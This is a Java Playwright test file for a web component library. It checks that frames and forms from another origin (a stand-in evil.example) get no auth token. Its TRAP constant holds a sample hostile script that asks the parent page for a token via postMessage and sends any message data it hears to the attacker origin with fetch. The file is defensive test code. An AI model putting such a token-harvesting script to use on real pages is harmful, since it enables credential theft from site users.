package org.hanse.sample.tiers;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Request;
import com.microsoft.playwright.Route;
import com.microsoft.playwright.options.LoadState;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** Somebody can write elements of ours into a page, and has a site that answers whatever is asked. */
class HijackTest {

    private static final String EVIL = "https://evil.example";

    /** Answers as a community would, and asks for the token as a frame of it would. */
    private static final String TRAP = """
            <div class="hanse" data-hanse-title="Evil"><p class="evil">Evil</p></div>
            <script>
            addEventListener('message', event => fetch('/heard?' + encodeURIComponent(JSON.stringify(event.data))));
            parent.postMessage({ hanse: 1, type: 'hello' }, '*');
            parent.postMessage({ hanse: 1, type: 'auth-needed' }, '*');
            </script>
            """;

    private static final String SECRET = """
            () => document.querySelectorAll('hanse-frame, hanse-view').forEach(each => { each.token = 'secret'; })
            """;

    @RegisterExtension
    static final SceneExtension SCENE = SceneExtension.at("/a/b");

    private static BrowserContext window() {
        return SCENE.scene()
                .chromium()
                .browser()
                .newContext(new Browser.NewContextOptions().setBypassCSP(true).setLocale("en-GB"));
    }

    /** Show a page without a policy of its own, with markup that somebody else has written into it. */
    private static Page show(BrowserContext window, List<Request> asked, String body) {
        Page page = window.newPage();
        page.route(EVIL + "/**", HijackTest::answer);
        page.onRequest(request -> {
            if (request.url().startsWith(EVIL)) {
                asked.add(request);
            }
        });
        page.navigate(SCENE.scene().page(body));
        page.waitForFunction("() => !!customElements.get('hanse-frame')");
        return page;
    }

    private static void answer(Route route) {
        route.fulfill(new Route.FulfillOptions()
                .setContentType("text/html")
                .setHeaders(Map.of(
                        "Access-Control-Allow-Origin", "*",
                        "Access-Control-Allow-Headers", "authorization"))
                .setBody(TRAP));
    }

    /** Have a token set, and let all messages and requests that follow from it come to an end. */
    private static void giveToken(Page page) {
        page.evaluate(SECRET);
        page.evaluate("() => new Promise(done => { addEventListener('message', event =>"
                + " event.data === 'done' && done()); postMessage('done', '*'); })");
        page.waitForLoadState(LoadState.NETWORKIDLE);
    }

    @Test
    void a_frame_of_another_origin_hears_no_token_whatever_mount_is_written_around_it() {
        List<Request> asked = new ArrayList<>();
        try (BrowserContext window = window()) {
            Page page = show(window, asked, """
                    <hanse-frame mount="%1$s"><iframe src="%1$s/x"></iframe></hanse-frame>
                    <hanse-frame mount="%2$s"><iframe src="%1$s/y"></iframe></hanse-frame>
                    """.formatted(EVIL, SCENE.site().mount()));
            assertThat(page.locator("hanse-frame .hanse-status[data-hanse-seen]"))
                    .hasCount(2);
            page.frameLocator("iframe").first().locator(".evil").waitFor();
            giveToken(page);
            page.evaluate("() => document.querySelectorAll('hanse-frame').forEach(each => each.navigate('t/1'))");
            giveToken(page);
        }
        assertThat(asked)
                .as("the trap is set")
                .anyMatch(request -> request.url().endsWith("/x"));
        assertThat(asked).noneMatch(request -> request.url().contains("secret"));
    }

    @Test
    void a_form_of_another_origin_gets_no_token_and_its_answer_is_not_shown() {
        List<Request> asked = new ArrayList<>();
        try (BrowserContext window = window()) {
            Page page = show(window, asked, """
                    <hanse-view mount="%1$s"><form action="%1$s/x"><button>Bare</button></form></hanse-view>
                    <hanse-view mount="%1$s"><div class="hanse" data-hanse-path="t/1">
                    <form action="%1$s/y"><button>Rendered</button></form>
                    <a href="%1$s/t/1/z" target="other">Link</a></div></hanse-view>
                    """.formatted(EVIL));
            assertThat(page.locator("hanse-view .hanse-status[data-hanse-seen]"))
                    .hasCount(2);
            giveToken(page);
            page.evaluate("() => document.querySelectorAll('hanse-view').forEach("
                    + "each => each.navigate('t/1').catch(() => {}))");
            page.evaluate("() => document.querySelectorAll('hanse-view').forEach(each => each.reload())");
            // What a form does without us stays here, to see what it did with us.
            page.evaluate("() => addEventListener('submit', event => event.preventDefault())");
            page.click("text=Bare");
            page.click("text=Rendered");
            giveToken(page);
            assertThat(page.locator(".evil")).hasCount(0);
        }
        assertThat(asked).isEmpty();
    }

    @Test
    void a_form_beside_the_view_is_the_pages_own() {
        List<Request> asked = new ArrayList<>();
        try (BrowserContext window = window()) {
            Page page = show(
                    window,
                    asked,
                    "<hanse-view mount=\"%1$s\" path=\"c/masons\" isolated><form action=\"%1$s/c/masons\"><button>Beside</button></form></hanse-view>"
                            .formatted(SCENE.site().mount()));
            page.locator("hanse-view .hanse").waitFor();
            page.evaluate("() => addEventListener('submit', event => {"
                    + " window.prevented = event.defaultPrevented; event.preventDefault(); })");
            page.evaluate("() => document.querySelector('form').requestSubmit()");
            assertThat(page.evaluate("() => window.prevented")).isEqualTo(false);
        }
    }
}
